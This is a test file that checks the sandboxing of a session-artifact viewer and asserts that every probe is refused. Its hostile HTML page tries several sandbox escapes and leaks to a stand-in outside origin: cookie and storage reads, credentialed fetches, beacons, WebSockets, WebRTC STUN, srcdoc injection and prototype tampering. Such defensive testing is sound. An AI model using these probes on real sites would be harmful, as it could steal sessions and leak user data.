import { createSocket } from 'node:dgram'
import { once } from 'node:events'
import { type IncomingHttpHeaders, request } from 'node:http'
import type { ArtifactPage, ArtifactViewLink, Session } from '@berth/contract'
import { type Accounts, startAccounts } from '@berth/testing/accounts/accounts.ts'
import type { Api } from '@berth/testing/api/api.ts'
import { launchChromium } from '@berth/testing/browser/chromium.ts'
import { type OtherSite, startOtherSite } from '@berth/testing/browser/other-site.ts'
import { newVisitor, type Visitor } from '@berth/testing/browser/visitor.ts'
import { personWithPassword } from '@berth/testing/console/console-page.ts'
import { pageFaults, shoot } from '@berth/testing/console/page-checks.ts'
import { openSignedIn } from '@berth/testing/console/signed-in.ts'
import { outcome } from '@berth/testing/runs/outcome.ts'
import { until } from '@berth/testing/until.ts'
import type { Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'

/** Tries to reach the console, its cookies, the page around it and the network, and shows its findings. */
const attack = (origin: string, elsewhere: string, udpPort: number) => `<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>Report</title><link rel="stylesheet" href="${elsewhere}/style"></head>
<body><h1>Report</h1><img src="${elsewhere}/picture"><iframe src="${elsewhere}/frame"></iframe><p id="seen"></p>
<form id="form" action="${elsewhere}/form" method="post"></form>
<script>
const seen = []
const attempt = async (name, what) => {
  let found
  try { found = String(await what()) } catch (error) { found = 'refused' }
  seen.push(name + '=' + found)
}
(async () => {
  await attempt('script', () => eval('1 + 1'))
  await attempt('markup', () => {
    const box = document.createElement('div')
    box.innerHTML = '<b>bold</b>'
    return box.firstChild.nodeName
  })
  await attempt('origin', () => origin)
  await attempt('cookies', () => document.cookie)
  await attempt('storage', () => localStorage.length)
  await attempt('opener', () => window.opener)
  await attempt('parent', () => parent.document.title)
  await attempt('top', () => { top.location.href = '${elsewhere}/top'; return 'asked' })
  await attempt('popup', () => window.open('${elsewhere}/popup') === null ? 'none' : 'opened')
  for (const path of ['/cloud/auth/session', '/cloud/v1/sessions']) {
    await attempt(path, async () => (await fetch('${origin}' + path, { credentials: 'include', mode: 'no-cors' })).type)
  }
  await attempt('beacon', () => fetch('${elsewhere}/beacon', { mode: 'no-cors' }))
  await attempt('worker', () => new Promise(resolve => {
    const source = "fetch('${elsewhere}/worker', { mode: 'no-cors' }).then(() => postMessage('reached'), () => postMessage('refused'))"
    const worker = new Worker(URL.createObjectURL(new Blob([source], { type: 'text/javascript' })))
    worker.onmessage = ({ data }) => resolve(data)
    worker.onerror = () => resolve('refused')
  }))
  await attempt('socket', () => new Promise((resolve, reject) => {
    const socket = new WebSocket('${elsewhere.replace('http', 'ws')}/socket')
    socket.onopen = () => resolve('open')
    socket.onerror = reject
  }))
  const call = () => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${udpPort}' }] })
    peer.createDataChannel('x')
    return peer.createOffer().then(offer => peer.setLocalDescription(offer))
  }
  await attempt('peer', call)
  const inner = '<script>(' + call + ')()</' + 'script>'
  const word = 'src' + 'doc'
  const add = fill => {
    const frame = document.createElement('iframe')
    fill(frame)
    document.body.append(frame)
    return 'added'
  }
  await attempt('property', () => add(frame => { frame[word] = inner }))
  await attempt('attribute', () => add(frame => frame.setAttribute(word.toUpperCase(), inner)))
  await attempt('node', () => add(frame => {
    const node = document.createAttribute(word)
    node.value = inner
    frame.setAttributeNode(node)
  }))
  await attempt('inner', () => { document.body.insertAdjacentHTML('beforeend', '<iframe ' + word + "='" + inner + "'>") })
  await attempt('prototypes', () => {
    String.prototype.includes = () => false
    RegExp.prototype.exec = () => null
    return add(frame => { frame[word] = inner })
  })
  await attempt('child', () => {
    const frame = document.createElement('iframe')
    document.body.append(frame)
    return typeof frame.contentWindow.RTCPeerConnection
  })
  document.querySelector('#form').submit()
  document.querySelector('#seen').textContent = seen.join('\\n')
})()
</script></body></html>
`

/** Nothing but a page that leaves for another site as soon as it can. */
const leaver = (elsewhere: string) =>
  `<script>location.href = '${elsewhere}/left?' + document.title</script>left behind`

const framed = `<h1>Framed</h1><iframe SRCDOC="<script>parent.postMessage('run', '*')</script>"></iframe><script>document.title = 'run'</script>`

/** A PDF of one page that says something. */
function pdf(): string {
  const text = 'BT /F1 24 Tf 40 100 Td (Quarterly report) Tj ET'
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>',
    `<< /Length ${text.length} >>\nstream\n${text}\nendstream`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
  ]
  let file = '%PDF-1.4\n'
  const offsets = objects.map((object, at) => {
    const offset = file.length
    file += `${at + 1} 0 obj\n${object}\nendobj\n`
    return `${String(offset).padStart(10, '0')} 00000 n \n`
  })
  const table = `xref\n0 6\n0000000000 65535 f \n${offsets.join('')}`
  return `${file}${table}trailer << /Size 6 /Root 1 0 R >>\nstartxref\n${file.length}\n%%EOF\n`
}

/** A port, and whether anything was sent to it. */
interface Listening {
  readonly port: number
  readonly heard: () => boolean
}

async function listening(): Promise<Listening> {
  let heard = false
  const socket = createSocket('udp4').on('message', () => {
    heard = true
  })
  await once(socket.bind(0, '127.0.0.1'), 'listening')
  stack.defer(() => void socket.close())
  return { port: socket.address().port, heard: () => heard }
}

const stack = new AsyncDisposableStack()
let accounts: Accounts
let api: Api
let session: Session
let ids: ReadonlyMap<string, string>
let elsewhere: OtherSite
let udp: Listening
let visitor: Visitor
let page: Page
beforeAll(async () => {
  accounts = stack.use(await startAccounts({ variables: { BERTH_ROLES: 'api,account,gateway,worker' } }))
  elsewhere = stack.use(await startOtherSite())
  udp = await listening()
  api = (await accounts.person({})).api
  const files = {
    'report.html': attack(accounts.test.url, elsewhere.origin, udp.port),
    'leaver.htm': leaver(elsewhere.origin),
    'framed.html': framed,
    'report.pdf': pdf(),
    'notes.md': '# Notes',
  }
  const script = Object.entries(files).flatMap(([name, content]) => [
    `base64 -d > ${name} <<< ${Buffer.from(content).toString('base64')}`,
    `berth-present ${name}`,
  ])
  session = await api.createSession({ title: 'Write the report', runtime: 'shell' }, script.join('\n'))
  await until('the end', async () => (await api.session(session.id)).phase === 'idle')
  const { body } = await api.get<ArtifactPage>(`/v1/sessions/${session.id}/artifacts`)
  ids = new Map(body.artifacts.map(({ name, id }) => [name, id]))
  const browser = await launchChromium([], 'chromium')
  stack.defer(() => browser.close())
  visitor = stack.use(await newVisitor(browser, { scripts: true }))
  page = visitor.page
  const person = await personWithPassword(accounts.test.db.database, accounts.test.tenant.organizationId)
  const shown = `${accounts.test.url}/sessions/${session.id}?panel=artifacts`
  await openSignedIn(page, shown, person)
})
afterAll(() => stack.disposeAsync())

const viewPath = (name: string) => `/cloud/sessions/${session.id}/artifacts/${ids.get(name)}/view`
const link = async (name: string): Promise<URL> => {
  const answer = await api.call<ArtifactViewLink>('POST', viewPath(name))
  expect(answer.status, answer.text).toBe(201)
  return new URL(answer.body.url)
}

/** Asks the service for a host as a browser would, without asking for the host's address. */
function ask(url: URL, headers: Readonly<Record<string, string>> = {}): Promise<Got> {
  const { host, pathname, search, port } = url
  const { promise, resolve, reject } = Promise.withResolvers<Got>()
  const sent = request({ host: '127.0.0.1', port, path: pathname + search, headers: { host, ...headers } })
  sent.on('response', async response => {
    const text = (await response.setEncoding('utf8').toArray()).join('')
    resolve({ status: response.statusCode ?? 0, headers: response.headers, text })
  })
  sent.on('error', reject).end()
  return promise
}

interface Got {
  readonly status: number
  readonly headers: IncomingHttpHeaders
  readonly text: string
}

/** Opens an artifact by the page's button. */
async function opened(name: string): Promise<Page> {
  await page.getByRole('link', { name: new RegExp(name) }).click()
  const opening = page.context().waitForEvent('page')
  await page.getByRole('button', { name: 'Open in a sandbox' }).click()
  const tab = await opening
  await tab.locator('iframe').waitFor()
  await page.getByRole('link', { name: 'All artifacts' }).click()
  return tab
}

describe('a link to a view', () => {
  it('is for HTML and PDF, and for who may read the Session', async () => {
    expect(outcome(await api.call('POST', viewPath('notes.md')))).toBe('409 cloud_artifact_not_viewable')
    const { tenant } = await accounts.test.newTenant()
    const stranger = await accounts.person({ organizationId: tenant.organizationId })
    expect(outcome(await stranger.api.call('POST', viewPath('report.html')))).toBe('404 cloud_session_not_found')
    const path = viewPath('report.html').replace(session.id, (await api.createSession()).id)
    expect(outcome(await api.call('POST', path))).toBe('404 cloud_session_not_found')
  })
})

describe('a view', () => {
  it('opens once, and sets no cookie', async () => {
    const [one, other] = [await link('report.html'), await link('report.html')]
    expect(one.hostname).toMatch(/^view-[a-z2-7]{20}\.localhost$/)
    expect(one.hostname).not.toBe(other.hostname)
    expect((await ask(new URL(`${other.pathname}${other.search}`, one))).status).toBe(403)
    const frame = await ask(one)
    expect([frame.status, frame.headers['set-cookie']]).toEqual([200, undefined])
    expect(frame.headers['content-security-policy']).toContain(`frame-src ${one.origin};`)
    const again = await ask(one)
    expect([again.status, again.text]).toEqual([403, expect.stringContaining('used up')])
    const [, source = ''] = / src="([^"]+)"/.exec(frame.text) ?? []
    const content = await ask(new URL(source, one), { 'sec-fetch-dest': 'iframe' })
    expect([content.status, content.headers['set-cookie']]).toEqual([200, undefined])
    expect(content.headers['content-security-policy']).toMatch(/^sandbox allow-scripts; default-src 'none'/)
    // Outside of its frame it could navigate elsewhere.
    expect((await ask(new URL(source, one), { 'sec-fetch-dest': 'document' })).status).toBe(403)
    expect((await ask(new URL(source, other))).status).toBe(403)
    expect((await ask(new URL('/v1/sessions', one))).status).toBe(404)
    expect((await ask(new URL('/.berth/content', one))).status).toBe(403)
  })

  it('is told in the audit log, and is loaded so often alone', async () => {
    const url = await link('report.html')
    const { rows } = await accounts.test.db.database.query<{ target: string }>(
      `select target from audit_log where action = 'artifact_view.opened' and details ->> 'artifactId' = $1`,
      [ids.get('report.html')],
    )
    expect(rows).toContainEqual({ target: `session/${session.id}` })
    const [, source = ''] = / src="([^"]+)"/.exec((await ask(url)).text) ?? []
    const loads = await Promise.all(Array.from({ length: 90 }, () => ask(new URL(source, url))))
    const statuses = loads.map(({ status }) => status)
    expect(statuses.filter(status => status === 200).length).toBeGreaterThanOrEqual(60)
    expect(statuses).toContain(429)
  })

  it('ends with its minute, and with the membership', async () => {
    const late = await link('report.html')
    const { database } = accounts.test.db
    await database.query(`update previews set ticket_expires_at = now() where label = $1`, [late.hostname.slice(5, 25)])
    expect((await ask(late)).status).toBe(403)
    const leaving = await accounts.person({})
    const answer = await leaving.api.call<ArtifactViewLink>('POST', viewPath('report.html'))
    const url = new URL(answer.body.url)
    const [, source = ''] = / src="([^"]+)"/.exec((await ask(url)).text) ?? []
    expect((await ask(new URL(source, url))).status).toBe(200)
    await database.query('update memberships set revoked_at = now() where person_id = $1', [leaving.who.personId])
    expect((await ask(new URL(source, url))).status).toBe(403)
  })

  it('runs the scripts of HTML, which reach neither the console nor anything else', async () => {
    await page.getByRole('link', { name: /report\.html/ }).click()
    await page.getByRole('button', { name: 'Open in a sandbox' }).waitFor()
    await shoot(page, 'artifact-html')
    expect(await pageFaults(page)).toEqual([])
    await page.getByRole('link', { name: 'All artifacts' }).click()
    const tab = await opened('report.html')
    const content = tab.frameLocator('iframe')
    await content.locator('#seen:not(:empty)').waitFor()
    const seen = (await content.locator('#seen').textContent())?.split('\n')
    expect(seen).toEqual([
      'script=2',
      'markup=B',
      'origin=null',
      'cookies=refused',
      'storage=refused',
      'opener=null',
      'parent=refused',
      'top=refused',
      'popup=none',
      '/cloud/auth/session=refused',
      '/cloud/v1/sessions=refused',
      'beacon=refused',
      'worker=refused',
      'socket=refused',
      'peer=refused',
      'property=refused',
      'attribute=refused',
      'node=refused',
      'inner=refused',
      'prototypes=refused',
      'child=refused',
    ])
    await shoot(tab, 'artifact-view')
    const control = await listening()
    const plain = await page.context().newPage()
    await plain.goto(elsewhere.origin)
    await plain.evaluate(`(async () => {
      const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${control.port}' }] })
      peer.createDataChannel('x')
      await peer.setLocalDescription(await peer.createOffer())
    })()`)
    await until('a packet of a plain page', async () => control.heard())
    expect(udp.heard()).toBe(false)
    expect(elsewhere.visits.filter(path => path !== '/' && path !== '/favicon.ico')).toEqual([])
    expect(new URL(tab.url()).hostname).toMatch(/^view-/)
    await plain.close()
    await tab.close()
  })

  it('keeps HTML from navigating its frame elsewhere', async () => {
    const tab = await opened('leaver.htm')
    await until('the refusal', async () => tab.frames()[1]?.url() === 'chrome-error://chromewebdata/')
    expect(elsewhere.visits.filter(path => path.startsWith('/left'))).toEqual([])
    await tab.close()
  })

  it('shows HTML with frames of its own without scripts, and says so', async () => {
    const tab = await opened('framed.html')
    await tab.frameLocator('iframe').getByRole('heading', { name: 'Framed' }).waitFor()
    await tab.getByText('Its scripts are off').waitFor()
    expect(await tab.frames()[1]?.title()).toBe('')
    await tab.close()
  })

  it('shows PDF in the browser’s viewer', async () => {
    const tab = await opened('report.pdf')
    await until('the viewer', async () => tab.frames().some(frame => frame.url().startsWith('chrome-extension:')))
    await shoot(tab, 'artifact-pdf')
    await tab.close()
  })

  it('never met the policy of the console', () => {
    expect(visitor.complaints).toEqual([])
  })
})
